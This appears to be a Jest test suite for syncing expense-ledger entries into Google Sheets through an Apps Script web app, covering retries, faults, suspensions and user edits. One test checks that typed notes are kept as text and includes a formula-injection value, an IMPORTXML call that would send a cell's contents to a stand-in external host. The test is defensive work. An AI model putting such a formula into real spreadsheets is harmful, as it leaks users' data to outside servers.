import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { headerOf } from '../../../../src/features/sheets/google/layout.ts';
import { prepareTab } from '../../../../src/features/sheets/google/prepare.ts';
import { saveConnection } from '../../../../src/features/sheets/queries.ts';
import { transaction } from '../../../../src/platform/postgres.ts';
import { COLUMN } from '../../../support/sheets-world.ts';
import { openWebAppWorld, type ScriptLedger, type WebAppWorld } from '../../../support/web-app-world.ts';

describe('a flush through a script', () => {
  let world: WebAppWorld;
  beforeAll(async () => {
    world = await openWebAppWorld();
  });
  afterEach(() => {
    world.google.sim.faults.clear();
    world.google.scripts.watch(undefined);
  });
  afterAll(async () => await world.stop());

  const again = async (ledger: ScriptLedger): Promise<void> => {
    world.google.sim.faults.clear();
    world.google.scripts.watch(undefined);
    await ledger.makeDue();
  };

  test('writes the same line as the API does, in a tab of its own', async () => {
    const ledger = await world.addScriptLedger();
    const shared = await world.addLedger();
    for (const { change } of [ledger, shared]) await change(1, 1, 'append', { note: 'cà phê ☕️ 👩‍👩‍👧', tags: ['hội', 'hè'] });
    expect(await world.flushScripts()).toEqual(['done']);
    await world.flushDue();
    expect(ledger.lines()).toEqual([
      ['1', '2026-11-22', 'Expense', 'Coffee', '35,000', 'VND', 'cà phê ☕️ 👩‍👩‍👧', '#hội #hè'],
    ]);
    expect(ledger.lines()).toEqual(shared.lines());
    expect(await ledger.statuses()).toEqual(['DONE']);
    expect((await ledger.connection())['header_seen_at']).toEqual(expect.any(Date));
    const tab = world.google.sim.read(ledger.spreadsheetId).sheets[0];
    expect(tab).toMatchObject({ title: 'FreedomWallet', sheetId: ledger.sheetId, frozenRowCount: 1 });
    expect(tab?.columns[0]).toMatchObject({ hidden: true });
  });

  test('keeps what looks like a formula, a number or a date as the text that was typed', async () => {
    const ledger = await world.addScriptLedger();
    const notes = ['=1+1', '=IMPORTXML("http://example.com/"&A1,"//a")', '+84 123', '-5', '@me', '007', '2026-11-22', "'quoted", 'TRUE'];
    for (const [index, note] of notes.entries()) await ledger.change(index + 1, 1, 'append', { note, category: note });
    expect(await world.flushScripts()).toEqual(['done']);
    const rows = world.google.sim.read(ledger.spreadsheetId).sheets[0]!.rows.slice(1);
    const written = rows.map(({ cells }) => [cells[COLUMN.category]?.value, cells[COLUMN.note]?.value]);
    expect(written).toEqual(notes.map((note) => [note, note]));
    expect(rows.flatMap(({ cells }) => cells).filter(({ formula }) => formula !== undefined)).toEqual([]);
  });

  test('changes and deletes the lines that are meant after a person sorted them, and leaves their own cells', async () => {
    const ledger = await world.addScriptLedger();
    for (const [id, note] of [[1, 'c'], [2, 'a'], [3, 'b']] as const) await ledger.change(id, 1, 'append', { note });
    await world.flushScripts();
    ledger.type(1, COLUMN.own, 'mine of 1');
    ledger.type(2, COLUMN.own, 'mine of 2');
    ledger.sort(COLUMN.note);
    await ledger.change(1, 2, 'update', { note: 'changed' });
    await ledger.change(3, 2, 'delete');
    await ledger.change(4, 1, 'append', { note: 'new' });
    expect(await world.flushScripts()).toEqual(['done']);
    expect(ledger.lines().map((cells) => [cells[COLUMN.id], cells[COLUMN.note], cells[COLUMN.own] ?? ''])).toEqual([
      ['2', 'a', 'mine of 2'],
      ['1', 'changed', 'mine of 1'],
      ['4', 'new', ''],
    ]);
  });

  test('does not bring back a line that the person removed, unless the entry was undeleted', async () => {
    const ledger = await world.addScriptLedger();
    await ledger.change(1, 1, 'append');
    await ledger.change(2, 1, 'append');
    await world.flushScripts();
    world.google.sim.deleteRow(ledger.spreadsheetId, ledger.sheetId, 1);
    world.google.sim.deleteRow(ledger.spreadsheetId, ledger.sheetId, 1);
    await ledger.change(1, 2, 'update', { note: 'changed' });
    await ledger.change(2, 2, 'append', { note: 'undone' });
    expect(await world.flushScripts()).toEqual(['done']);
    expect(ledger.notes()).toEqual({ 2: 'undone' });
  });

  test('takes 500 lines at once, and then as many changes and deletions', async () => {
    const ledger = await world.addScriptLedger();
    for (let id = 1; id <= 500; id += 1) await ledger.change(id, 1, 'append', { note: `n${id}` });
    expect(await world.flushScripts()).toEqual(['done']);
    expect(ledger.lines()).toHaveLength(500);
    for (let id = 1; id <= 500; id += 1) await ledger.change(id, 2, id % 2 ? 'update' : 'delete', { note: `m${id}` });
    expect(await world.flushScripts()).toEqual(['done']);
    expect(Object.entries(ledger.notes())).toEqual(Array.from({ length: 250 }, (_, at) => [`${2 * at + 1}`, `m${2 * at + 1}`]));
  });

  describe('that goes wrong at Google', () => {
    test.each([
      ['an outage', { kind: 'status' as const, status: 503 }],
      ['a page instead of an answer', { kind: 'html' as const, status: 200 }],
      ['a connection that breaks before', { kind: 'drop-before' as const }],
      ['a connection that breaks after the write', { kind: 'drop-after' as const }],
      ['an outage after the write', { kind: 'status-after' as const, status: 500 }],
      ['a quota', { kind: 'quota' as const }],
    ])('tries again after %s, and each entry is there once', async (_, fault) => {
      const ledger = await world.addScriptLedger();
      await ledger.change(1, 1, 'append', { note: 'first' });
      world.google.sim.faults.add({ match: { method: 'script.post', spreadsheetId: ledger.spreadsheetId }, ...fault });
      expect(await world.flushScripts()).toEqual(['later']);
      const isFailure = fault.kind !== 'quota';
      expect(await ledger.connection()).toMatchObject({ attempt: isFailure ? 1 : 0, suspended_at: null });
      await again(ledger);
      expect(await world.flushScripts()).toEqual(['done']);
      expect(ledger.notes()).toEqual({ 1: 'first' });
      expect(ledger.lines()).toHaveLength(1);
    });

    test.each([
      ['lost', { kind: 'drop-before' as const }],
      ['cut short', { kind: 'truncated' as const }],
      ['a page', { kind: 'html' as const, status: 404 }],
    ])('knows a batch again whose answer was %s on the way back', async (_, fault) => {
      const ledger = await world.addScriptLedger();
      await ledger.change(1, 1, 'append', { note: 'first' });
      world.google.sim.faults.add({ match: { method: 'script.echo' }, ...fault });
      expect(await world.flushScripts()).toEqual(['later']);
      ledger.type(1, COLUMN.note, 'by hand');
      await again(ledger);
      expect(await world.flushScripts()).toEqual(['done']);
      expect(ledger.notes()).toEqual({ 1: 'by hand' });
    });

    test('waits while another run has the lock', async () => {
      const ledger = await world.addScriptLedger();
      await ledger.change(1, 1, 'append');
      world.google.scripts.setLocked(ledger.url, true);
      expect(await world.flushScripts()).toEqual(['later']);
      expect(ledger.lines()).toEqual([]);
      world.google.scripts.setLocked(ledger.url, false);
      await again(ledger);
      expect(await world.flushScripts()).toEqual(['done']);
    });

    test.each([
      ['was removed', (url: string) => world.google.scripts.remove(url), 'script-gone'],
      ['lets nobody in', (url: string) => world.google.scripts.setClosed(url, true), 'script-closed'],
    ])('asks the person once when the web app %s, and was so three times', async (_, spoil, reason) => {
      const ledger = await world.addScriptLedger();
      await ledger.change(1, 1, 'append');
      spoil(ledger.url);
      const before = world.notices.length;
      for (const outcome of ['later', 'later', 'suspended', undefined]) {
        await ledger.makeDue();
        expect((await world.flushScripts())[0]).toBe(outcome);
      }
      expect((await ledger.connection())['suspended_reason']).toBe(reason);
      expect(world.notices).toHaveLength(before + 1);
      expect(await ledger.statuses()).toEqual(['PENDING']);
    });
  });

  test('stops for a script that has another secret', async () => {
    const ledger = await world.addScriptLedger();
    const other = await world.addScriptLedger();
    await world.house.db.query('update connections set web_app_url = $2 where user_id = $1', [ledger.userId, other.url]);
    await ledger.change(1, 1, 'append');
    expect(await world.flushScripts()).toEqual(['suspended']);
    expect((await ledger.connection())['suspended_reason']).toBe('script-stranger');
    expect(other.lines()).toEqual([]);
  });

  test('stops when the key that opens the secret is gone', async () => {
    const ledger = await world.addScriptLedger();
    await world.house.db.query('update connections set web_app_secret = $2 where user_id = $1', [ledger.userId, Buffer.alloc(80, 1)]);
    await ledger.change(1, 1, 'append');
    expect(await world.flushScripts()).toEqual(['suspended']);
  });

  test.each<[string, (ledger: ScriptLedger) => void, string]>([
    ['deleted the tab', ({ spreadsheetId, sheetId }) => world.google.sim.deleteSheet(spreadsheetId, sheetId), 'script-tab-gone'],
    [
      'moved the columns',
      ({ spreadsheetId, sheetId }) => {
        world.google.sim.setCell(spreadsheetId, sheetId, 0, 1, 'Note');
        world.google.sim.setCell(spreadsheetId, sheetId, 0, 6, 'Date');
      },
      'columns-moved',
    ],
  ])('stops when the person %s', async (_, spoil, reason) => {
    const ledger = await world.addScriptLedger();
    await ledger.change(1, 1, 'append');
    spoil(ledger);
    expect(await world.flushScripts()).toEqual(['suspended']);
    expect((await ledger.connection())['suspended_reason']).toBe(reason);
  });

  test('stops when the tab is protected against who deployed the script', async () => {
    const ledger = await world.addScriptLedger({ as: 'friend@example.com' });
    const { spreadsheetId, sheetId } = ledger;
    world.google.sim.edit(spreadsheetId, { addProtectedRange: { protectedRange: { range: { sheetId } } } });
    await ledger.change(1, 1, 'append');
    expect(await world.flushScripts()).toEqual(['suspended']);
    expect((await ledger.connection())['suspended_reason']).toBe('script-protected');
  });

  describe('whose tab is compared', () => {
    const read = async (ledger: ScriptLedger): Promise<unknown> => {
      const { userId, spreadsheetId, sheetId } = ledger;
      const place = { userId, spreadsheetId, sheetId, locale: 'en' };
      return await world.gate.reader!.read(place, { entries: 3, isPatient: true });
    };

    test('says which entries have lines there, as often as they have', async () => {
      const ledger = await world.addScriptLedger();
      for (const id of [3, 1]) await ledger.change(id, 1, 'append');
      await world.flushScripts();
      ledger.type(3, COLUMN.id, '1');
      ledger.type(4, COLUMN.id, 'Sum');
      expect(await read(ledger)).toEqual({ kind: 'read', ids: [3, 1, 1], title: 'FreedomWallet', isHidden: false });
    });

    test.each<[string, (ledger: ScriptLedger) => void, object]>([
      ['whose tab is gone', ({ spreadsheetId, sheetId }) => world.google.sim.deleteSheet(spreadsheetId, sheetId), { reason: 'script-tab-gone' }],
      ['whose web app is gone', ({ url }) => world.google.scripts.remove(url), { reason: 'script-gone' }],
      ['that is busy', ({ url }) => world.google.scripts.setLocked(url, true), { kind: 'later', because: 'down' }],
      [
        'that Google stops for today',
        () => void world.google.sim.faults.add({ match: { method: 'script.post' }, kind: 'quota' }),
        { kind: 'later', because: 'busy' },
      ],
    ])('says why it can not, of one %s', async (_, spoil, reading) => {
      const ledger = await world.addScriptLedger();
      spoil(ledger);
      expect(await read(ledger)).toMatchObject(reading);
    });
  });

  test('leaves an entry once when its ledger goes over to sharing before the answer is there', async () => {
    const ledger = await world.addScriptLedger();
    const { spreadsheetId, sheetId, userId } = ledger;
    await ledger.change(1, 1, 'append', { note: 'first' });
    world.google.sim.faults.add({ match: { method: 'script.post' }, kind: 'drop-after' });
    expect(await world.flushScripts()).toEqual(['later']);
    const account = world.accounts.all[0]!;
    const tab = { client: account.prompt, address: account.addressOf(spreadsheetId, userId), sheetId };
    await prepareTab(tab, [headerOf(world.house.text, 'en')]);
    const shared = { userId, spreadsheetId, title: 'Sheet', sheetId, locale: 'en' as const };
    await transaction(world.house.db, async (tx) => {
      await saveConnection(tx, { ...shared, reachedBy: 'account', accountEmail: account.email });
    });
    await world.flushDue();
    expect(ledger.lines()).toHaveLength(1);
    expect(await ledger.statuses()).toEqual(['DONE']);
  });

  test('goes on under a tab’s new name', async () => {
    const ledger = await world.addScriptLedger();
    world.google.sim.renameSheet(ledger.spreadsheetId, ledger.sheetId, 'Sổ chi tiêu');
    await ledger.change(1, 1, 'append');
    expect(await world.flushScripts()).toEqual(['done']);
    expect(ledger.lines()).toHaveLength(1);
  });

  test('finds the one line that a rule of the tab refuses, and writes the others', async () => {
    const ledger = await world.addScriptLedger();
    world.google.scripts.setRule(ledger.spreadsheetId, ledger.sheetId, COLUMN.category, ['Coffee', 'Rent']);
    for (let id = 1; id <= 5; id += 1) await ledger.change(id, 1, 'append', { category: id === 4 ? 'Taxi' : 'Coffee' });
    await world.flushScripts();
    await ledger.makeDue();
    await world.flushScripts();
    expect(Object.keys(ledger.notes()).filter((id) => id !== '')).toEqual(['1', '2', '3', '5']);
    expect(await ledger.statuses()).toEqual(['DONE', 'DONE', 'DONE', 'FAILED', 'DONE']);
  });
});
